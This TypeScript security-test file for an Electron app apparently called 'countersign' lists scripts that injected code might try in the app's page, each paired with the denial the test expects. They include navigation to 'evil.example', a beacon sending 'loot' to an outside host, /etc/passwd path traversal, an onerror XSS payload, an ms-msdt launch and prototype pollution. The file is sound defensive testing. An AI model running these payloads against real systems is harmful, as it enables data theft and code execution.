/** What foreign script within our own page would try: our page is served shut, and its bridge is narrow. */
import type { Area } from '../attack.ts'
import { loads, refusedBy } from './scripts.ts'

export const ownPage: Area = {
  title: 'Foreign script in our own page',
  about:
    'Our screens show text that comes from elsewhere. Should any of it ever run as a script, this is what it would try. It may ask for what the person at the screen may ask for, and no more.',
  by: 'own page',
  guard: ['own page'],
  attacks: [
    { name: 'leave for elsewhere', script: 'location = "http://{elsewhere}/"', denied: 'navigation' },
    { name: 'leave for a public host', script: 'location = "https://evil.example/"', denied: 'navigation' },
    {
      name: 'leave by a link',
      script:
        'const a = document.createElement("a"); a.href = "http://{elsewhere}/"; document.body.append(a); a.click()',
      denied: 'navigation'
    },
    {
      name: 'leave by a form',
      script:
        'const f = document.createElement("form"); f.action = "http://{elsewhere}/"; f.method = "post"; document.body.append(f); f.submit()'
    },
    { name: 'leave for a file', script: 'location = "file:///etc/passwd"' },
    { name: 'leave for another host of our scheme', script: 'location = "app://other/index.html"' },
    { name: 'leave for data', script: 'location = "data:text/html,x"' },
    { name: 'leave for a blob', script: 'location = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))' },
    {
      name: 'leave for a file of our own that isn’t a page',
      script: 'location = "app://countersign/page.js"',
      denied: 'navigation'
    },
    {
      name: 'open a window',
      script: 'window.open("http://{elsewhere}/")',
      denied: 'new window'
    },
    {
      name: 'open a window with our own page',
      script: 'window.open("app://countersign/index.html")',
      denied: 'new window'
    },
    {
      name: 'embed a page of elsewhere',
      script:
        'const f = document.createElement("iframe"); f.src = "http://{elsewhere}/"; document.body.append(f); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'embed our own page, to ask from a frame',
      script:
        'const f = document.createElement("iframe"); f.src = "app://countersign/index.html"; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); try { return f.contentDocument?.title ?? "" } catch { return "" }',
      answers: ''
    },
    {
      name: 'fetch from elsewhere',
      script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
      answers: 'refused'
    },
    {
      name: 'fetch a file outside our folder',
      script: 'return fetch("/..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd").then((r) => r.status, () => 404)',
      answers: 404
    },
    {
      name: 'fetch our own sources',
      script: 'return fetch("/..%2fattacks.spec.ts").then((r) => r.status, () => 404)',
      answers: 404
    },
    {
      name: 'write to our scheme',
      script: 'return fetch("/index.html", { method: "POST", body: "x" }).then((r) => r.status, () => 405)',
      answers: 405
    },
    {
      name: 'load a picture from elsewhere',
      script: loads('img', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused'
    },
    {
      name: 'load a script from elsewhere',
      script: loads('script', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused'
    },
    {
      name: 'load a style from elsewhere',
      script: loads('link', 'e.rel = "stylesheet"; e.href = "http://{elsewhere}/"'),
      answers: 'refused'
    },
    {
      name: 'embed an object',
      script:
        'const o = document.createElement("object"); o.data = "http://{elsewhere}/"; document.body.append(o); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'run a script that it writes',
      script:
        'const s = document.createElement("script"); s.textContent = "window.owned = true"; document.body.append(s); return window.owned === true',
      answers: false
    },
    {
      name: 'run a script from an attribute',
      script:
        'const d = document.createElement("div"); d.innerHTML = `<img src=x onerror="window.owned2 = true">`; document.body.append(d); await new Promise((r) => setTimeout(r, 300)); return window.owned2 === true',
      answers: false
    },
    {
      name: 'change what all links mean',
      script:
        'const b = document.createElement("base"); b.href = "http://{elsewhere}/"; document.head.append(b); const changed = document.baseURI.includes("{elsewhere}"); b.remove(); return changed',
      answers: false
    },
    {
      name: 'speak over a socket',
      script:
        'return new Promise((r) => { try { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = () => r("granted"); s.onerror = () => r("refused") } catch { r("refused") } })',
      answers: 'refused'
    },
    {
      name: 'send a last word',
      script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'save a file',
      script:
        'const a = document.createElement("a"); a.download = "run.exe"; a.href = URL.createObjectURL(new Blob(["MZ"])); document.body.append(a); a.click()'
    },
    {
      name: 'watch through the camera',
      script: refusedBy('(navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject())'),
      answers: 'refused'
    },
    {
      name: 'read the clipboard',
      script: refusedBy('(navigator.clipboard?.readText() ?? Promise.reject())'),
      answers: 'refused'
    },
    { name: 'notify', script: 'return Notification.requestPermission()', answers: 'denied' },
    {
      name: 'use an element that holds other pages',
      script:
        'const w = document.createElement("webview"); w.src = "http://{elsewhere}/"; document.body.append(w); return typeof w.loadURL',
      answers: 'undefined'
    },
    {
      name: 'find more of Electron or Node than the bridge',
      guard: ['bridge'],
      script:
        'return ["require", "process", "module", "ipcRenderer", "electron", "Buffer", "global"].filter((name) => name in window)',
      answers: []
    },
    {
      name: 'name a channel of its own choice',
      guard: ['bridge'],
      script:
        'return [typeof countersign.invoke, typeof countersign.send, typeof countersign.accounts.drop, typeof countersign.ipcRenderer]',
      answers: ['undefined', 'undefined', 'undefined', 'undefined']
    },
    {
      name: 'listen to what is not an event',
      guard: ['bridge'],
      script: 'try { countersign.on("ipc-message", () => {}); return "granted" } catch { return "refused" }',
      answers: 'refused'
    },
    {
      name: 'put its own function in the bridge’s place',
      guard: ['bridge'],
      script:
        '"use strict"; try { countersign.accounts.remove = () => "mine" } catch {} return String(countersign.accounts.remove).includes("mine")',
      answers: false
    },
    {
      name: 'ask with the wrong shape',
      guard: ['bridge'],
      script: 'return countersign.drafts.get({ id: "a", path: "/etc/passwd" }).then((r) => r.error?.code)',
      answers: 'bad-input'
    },
    {
      name: 'ask with nothing',
      guard: ['bridge'],
      script: 'return countersign.drafts.get().then((r) => r.error?.code)',
      answers: 'bad-input'
    },
    {
      name: 'ask with a number, a list, a text, nothing at all',
      guard: ['bridge'],
      script:
        'return Promise.all([1, [], "a", null, true].map((input) => countersign.drafts.get(input).then((r) => r.error?.code)))',
      answers: ['bad-input', 'bad-input', 'bad-input', 'bad-input', 'bad-input']
    },
    {
      name: 'ask with something that runs',
      guard: ['bridge'],
      script:
        'return countersign.drafts.get({ get id() { window.ran = true; return "a" }, run() {} }).then((r) => r.error?.code, () => "bad-input")',
      answers: 'bad-input'
    },
    {
      name: 'ask with a text of a hundred megabytes',
      guard: ['bridge'],
      script: 'return countersign.drafts.get({ id: "a".repeat(1e8) }).then((r) => r.error?.code, () => "bad-input")',
      answers: 'bad-input'
    },
    {
      name: 'ask from a frame that it makes',
      guard: ['bridge', 'own page'],
      script:
        'const f = document.createElement("iframe"); document.body.append(f); const there = typeof f.contentWindow.countersign; f.remove(); return there',
      answers: 'undefined'
    },
    {
      name: 'ask by the bridge’s own messages, without its functions',
      guard: ['bridge'],
      script:
        'for (const name of ["accounts.remove", "drafts.get"]) window.postMessage({ channel: name, args: [{ id: "a" }] }, "*"); await new Promise((r) => setTimeout(r, 200))'
    },
    {
      name: 'have something fetched ahead',
      script:
        'document.head.insertAdjacentHTML("beforeend", `<link rel=prefetch href="http://{elsewhere}/1"><link rel=preload as=image href="http://{elsewhere}/2"><link rel=prerender href="http://{elsewhere}/3">`); await new Promise((r) => setTimeout(r, 400))'
    },
    {
      name: 'register a service worker that would outlive it',
      script: refusedBy('navigator.serviceWorker.register("/page.js")'),
      answers: 'refused'
    },
    {
      name: 'run a worker of its own making',
      script: refusedBy(
        'new Promise((r, e) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = r; w.onerror = e })'
      ),
      answers: 'refused'
    },
    {
      name: 'run a text as a script',
      script:
        'try { setTimeout("window.ranText = true") } catch {} await new Promise((r) => setTimeout(r, 100)); return window.ranText === true',
      answers: false
    },
    {
      name: 'open a file of this computer',
      script: refusedBy('(window.showOpenFilePicker?.() ?? Promise.reject())'),
      guard: ['permissions'],
      answers: 'refused'
    },
    {
      name: 'start a program of the system',
      script: 'const a = document.createElement("a"); a.href = "ms-msdt:/id"; document.body.append(a); a.click()',
      guard: ['own page', 'permissions']
    },
    {
      name: 'ask with a prototype',
      guard: ['bridge'],
      script: 'return countersign.drafts.get(JSON.parse(`{"__proto__":{"id":"a"}}`)).then((r) => r.error?.code)',
      answers: 'bad-input'
    }
  ]
}
